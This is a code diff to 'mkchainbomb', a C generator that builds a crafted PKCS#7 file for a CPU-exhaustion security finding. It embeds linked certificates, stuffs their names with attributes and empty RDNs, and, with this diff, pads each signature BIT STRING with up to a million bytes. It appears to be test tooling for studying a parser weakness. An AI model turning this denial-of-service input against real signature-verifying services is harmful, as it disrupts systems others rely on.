@@ -2,7 +2,7 @@
 /*
  * mkchainbomb - write the crafted PKCS#7 of the "CPU exhaustion" finding
  *
- *   mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY]]]
+ *   mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY [PAD [FILL]]]]]
  *
  * A SignedData that costs a CA-chain walk as much as its structure allows
  * while naming nobody: 16 embedded certificates whose subject and issuer
@@ -20,7 +20,10 @@
  * of more than 32 attributes do not parse: VENDORBAN_NAME_MAX_ATTRS, so
  * 32 is the most a chain walk can be made to render).  EMPTY appends as
  * many empty RDNs (an empty SET: OpenSSL takes them) to every name: they
- * count no attribute, so only the parse budget bounds their walk.
+ * count no attribute, so only the parse budget bounds their walk.  PAD
+ * appends as many bytes of value FILL (default 0) to every certificate's
+ * signature BIT STRING: one element, but bytes every linked certificate's
+ * fingerprint hashes (the signers name 4 of them).
  * Nothing in it verifies; it is a test input, never a signature.
  */
 
@@ -37,6 +40,9 @@
 static int nr_attrs = NR_ATTRS;
 /* Empty RDNs after them (EMPTY). */
 static int nr_empty;
+/* Bytes of @pad_fill after each certificate's signature (PAD, FILL). */
+static int nr_pad;
+static int pad_fill;
 
 struct buf {
 	uint8_t *p;
@@ -140,8 +146,10 @@ static void issuer(struct buf *b)
 static void cert(struct buf *b, int i)
 {
 	struct buf tbs = { 0 }, c = { 0 }, v = { 0 }, spki = { 0 };
+	struct buf sig = { 0 };
 	uint8_t serial = 0x10 + i, ver = 2, zero = 0;
 	char first[2] = { (char)('a' + i), 0 };
+	int k;
 
 	prim(&v, 0x02, &ver, 1);
 	tlv(&tbs, 0xa0, &v);
@@ -157,7 +165,16 @@ static void cert(struct buf *b, int i)
 	tlv(&tbs, 0x30, &spki);
 	tlv(&c, 0x30, &tbs);
 	algo(&c, oid_rsa, sizeof(oid_rsa));
-	prim(&c, 0x03, &zero, 1);
+	sig.p = calloc(1, 1);
+	if (!sig.p)
+		die("out of memory");
+	sig.n = 1;
+	for (k = 0; k < nr_pad; k++) {
+		uint8_t f = pad_fill;
+
+		append(&sig, &f, 1);
+	}
+	tlv(&c, 0x03, &sig);
 	tlv(b, 0x30, &c);
 }
 
@@ -221,16 +238,20 @@ int main(int argc, char **argv)
 	FILE *f;
 	int nr, certs = NR_CERTS;
 
-	if (argc < 3 || argc > 6)
-		die("usage: mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY]]]");
+	if (argc < 3 || argc > 8)
+		die("usage: mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY [PAD [FILL]]]]]");
 	nr = atoi(argv[1]);
 	if (argc >= 4) {
 		certs = atoi(argv[3]);
 		nr_attrs = argc >= 5 ? atoi(argv[4]) : 4;
-		nr_empty = argc == 6 ? atoi(argv[5]) : 0;
+		nr_empty = argc >= 6 ? atoi(argv[5]) : 0;
+		nr_pad = argc >= 7 ? atoi(argv[6]) : 0;
+		pad_fill = argc == 8 ? atoi(argv[7]) : 0;
 	}
 	if (nr_empty < 0 || nr_empty > 10000)
 		die("EMPTY must be 0 to 10000");
+	if (nr_pad < 0 || nr_pad > 1000000 || pad_fill < 0 || pad_fill > 255)
+		die("PAD must be 0 to 1000000, FILL 0 to 255");
 	if (certs < NR_SIGNERS || certs > NR_CERTS)
 		die("CERTS must be 4 to 16");
 	if (nr_attrs < 1 || nr_attrs > NR_ATTRS)
